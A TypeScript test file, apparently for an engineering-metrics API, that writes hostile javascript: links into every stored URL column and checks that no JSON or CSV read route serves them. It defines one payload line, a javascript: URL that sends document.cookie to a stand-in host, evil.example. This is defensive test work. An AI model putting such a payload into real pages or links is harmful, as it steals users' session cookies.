import { parseStrideConfig } from '@stride/shared/config';
import { generateOrg, seedOrg } from '@stride/testkit';
import { createTestDatabase, type TestDatabase } from '@stride/testkit/database';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../app.ts';
import { loadApiConfig } from '../config.ts';

// A link written to the database by an older version, a restore or by hand is never served as
// anything but http(s): every read route, JSON and CSV, with every stored link made hostile.
const HOSTILE = 'javascript:fetch("https://evil.example/?"+document.cookie)';
const end = new Date(Date.UTC(2025, 5, 1));
const org = generateOrg({ teams: 1, membersPerTeam: 3, reposPerTeam: 1, days: 60, end, seed: 11 });
const team = org.teams[0]!;
const from = new Date(end.getTime() - 56 * 86_400_000).toISOString().slice(0, 10);
const to = end.toISOString().slice(0, 10);
// 'before' and 'after' need a team with an adoption date; these list every change of the org.
const AI_GROUPS = ['ai', 'none', 'unclassified'];

describe('stored non-http(s) links are never served', () => {
  let t: TestDatabase;
  let app: FastifyInstance;
  beforeAll(async () => {
    t = await createTestDatabase();
    await seedOrg(t.db, org);
    await t.db.updateTable('pull_requests').set({ html_url: HOSTILE }).execute();
    await t.db.updateTable('repositories').set({ html_url: HOSTILE }).execute();
    await t.db.updateTable('deployments').set({ url: HOSTILE }).execute();
    await t.db.updateTable('incidents').set({ url: HOSTILE }).execute();
    await t.db.updateTable('jira_issues').set({ url: HOSTILE }).execute();
    app = await buildApp({
      db: t.db,
      config: loadApiConfig({ RATE_LIMIT_PER_MINUTE: '1000000' }),
      // Agreements every PR breaks, so the violations list (which carries links) is not empty.
      strideConfig: parseStrideConfig({
        teams: [{ ...team, agreements: { maxPrSizeLines: 1, maxPrOpenDays: 0.001 } }, ...org.teams.slice(1)],
      }),
      logger: false,
    });
    await app.ready();
  });
  afterAll(async () => {
    await app?.close();
    await t?.destroy();
  });

  it('every GET route of the API answers without the stored javascript: links', async () => {
    const repository = (await t.db.selectFrom('repositories').select('full_name').executeTakeFirstOrThrow())
      .full_name;
    const urls = app
      .accessRoutes()
      .filter((r) => r.method === 'GET' && r.url.startsWith('/api/') && r.access !== 'admin')
      .flatMap((r) => {
        const path = r.url
          .replace(':team', encodeURIComponent(team.slug))
          .replace(':repo', encodeURIComponent(repository));
        const base = `${path}?from=${from}&to=${to}`;
        return r.url.startsWith('/api/ai-impact/changes')
          ? AI_GROUPS.map((group) => `${base}&group=${group}`)
          : [base];
      });
    expect(urls).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^\/api\/changes\.csv/),
        expect.stringMatching(/^\/api\/ai-impact\/changes\?/),
        expect.stringMatching(/^\/api\/teams\/[^/]+\/agreements/),
      ]),
    );
    const linked: string[] = [];
    for (const url of urls) {
      const res = await app.inject({ method: 'GET', url });
      expect(res.statusCode, `${url}: ${res.body.slice(0, 300)}`).toBeLessThan(400);
      const leak = /javascript|document\.cookie/i.exec(res.body);
      expect(leak && `${url}: ${res.body.slice(Math.max(0, leak.index - 120), leak.index + 60)}`).toBeNull();
      // A route that lists rows with a link field: each such field is null (or empty in CSV).
      if (/"url":null/.test(res.body) || /(^|,)url(,|$)/.test(res.body.split('\r\n')[0] ?? ''))
        linked.push(url.split('?')[0]!);
    }
    // The routes that serve links did list rows with them (the test cannot pass on empty lists).
    expect(new Set(linked)).toEqual(
      new Set([
        '/api/changes',
        '/api/changes.csv',
        '/api/deployments',
        '/api/deployments.csv',
        '/api/incidents',
        '/api/incidents.csv',
        '/api/ai-impact/changes',
        '/api/ai-impact/changes.csv',
        `/api/teams/${team.slug}/agreements`,
      ]),
    );
  }, 120_000);
});
